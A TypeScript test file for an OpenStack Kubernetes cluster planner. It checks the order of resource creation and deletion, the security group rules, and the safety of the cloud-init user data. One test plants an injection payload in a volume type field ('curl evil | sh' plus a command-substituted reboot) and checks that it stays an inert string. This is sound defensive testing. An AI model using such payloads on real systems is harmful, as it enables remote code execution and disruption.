/** The cluster plan: create and delete order, and the user data as data whatever the file holds. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parse, parseAllDocuments } from 'yaml';
import { parseClusterFile } from '../spec/load-cluster.js';
import { clusterNodes, createSteps, DELETE_STEPS, securityGroupRules } from './cluster.js';
import { addonsYaml, clusterAddons } from './cluster-addons.js';
import { nodeUserData } from './cluster-user-data.js';

const file = (extra = '') =>
  parseClusterFile(
    `apiVersion: osk.dev/v1alpha1\nkind: KubernetesCluster\nmetadata: {name: demo}\nspec:\n  image: i\n  controlPlane: {flavor: f}\n  workers: {flavor: f}\n${extra}`,
  );

test('create: ports before the load balancer and servers (their addresses go into kubeadm), members last', () => {
  assert.deepEqual(
    createSteps(file('  network: {externalNetwork: public}\n')).map((s) => s.id),
    [
      'application-credential',
      'network',
      'subnet',
      'router',
      'security-groups',
      'server-group',
      'ports',
      'load-balancer',
      'floating-ip',
      'servers',
      'members',
    ],
  );
  assert.deepEqual(
    createSteps(file('  apiLoadBalancer: {enabled: false}\n')).map((s) => s.id),
    ['application-credential', 'network', 'subnet', 'router', 'security-groups', 'server-group', 'ports', 'servers'],
  );
});

test('delete: what uses a thing goes before it', () => {
  const order = DELETE_STEPS.map((s) => s.id);
  const before = (a: string, b: string) => assert.ok(order.indexOf(a) < order.indexOf(b), `${a} before ${b}`);
  before('servers', 'ports');
  before('load-balancers', 'floating-ips');
  before('floating-ips', 'ports');
  before('ports', 'network');
  before('router', 'network');
  before('servers', 'security-groups');
  before('ports', 'security-groups');
  before('servers', 'server-group');
  assert.equal(order.at(-1), 'state');
});

test('IP-in-IP opens protocol 4 and BGP between nodes instead of VXLAN; SSH only with a keypair', () => {
  const rules = securityGroupRules(file('  cni: {encapsulation: ipip}\n  keyPair: me\n'));
  assert.ok(rules.some((r) => r.protocol === '4' && r.from === 'nodes'));
  assert.ok(!rules.some((r) => r.protocol === 'udp' && r.ports?.[0] === 4789));
  assert.ok(rules.some((r) => r.ports?.[0] === 22));
  assert.ok(!securityGroupRules(file()).some((r) => r.ports?.[0] === 22));
});

test('user data is YAML data: a hostile volume type stays a string value, commands are argument lists', () => {
  const hostile = '"; curl evil | sh # $(reboot)';
  const inputs = {
    authUrl: 'http://keystone:5000/v3',
    region: 'RegionOne',
    applicationCredential: { id: 'i', secret: 's' },
    networkId: 'n',
    subnetId: 's',
    floatingNetworkId: undefined,
    loadBalancerService: true,
    caCert: undefined,
  };
  const f = file(`  storageClasses: [{name: fast, volumeType: '${hostile}'}]\n`);
  const [cp] = clusterNodes(f);
  const secrets = {
    bootstrapToken: 'abcdef.0123456789abcdef',
    certificateKey: 'k',
    caCert: 'C',
    caKey: 'K',
    caCertHash: 'sha256:00',
  };
  const addons = addonsYaml(clusterAddons(f, inputs));
  const text = nodeUserData(f, cp!, { endpoint: '10.6.0.9', sans: [], address: '10.6.0.3', addons }, secrets);
  assert.ok(text.startsWith('#cloud-config\n'));
  const doc = parse(text) as { write_files: { path: string; content: string }[]; runcmd: string[][] };
  const written = doc.write_files.find((w) => w.path.endsWith('addons.yaml'))!;
  const classes = parseAllDocuments(written.content)
    .map((d) => d.toJS())
    .filter((o) => o.kind === 'StorageClass');
  assert.equal(classes[0].parameters.type, hostile);
  assert.equal((written as { permissions?: string }).permissions, '0600', 'the add-ons hold the cloud-config Secret');
  assert.ok(doc.runcmd.every((c) => Array.isArray(c) && c.every((a) => typeof a === 'string')));
  assert.ok(!doc.runcmd.flat().some((a) => a.includes('curl')));
});
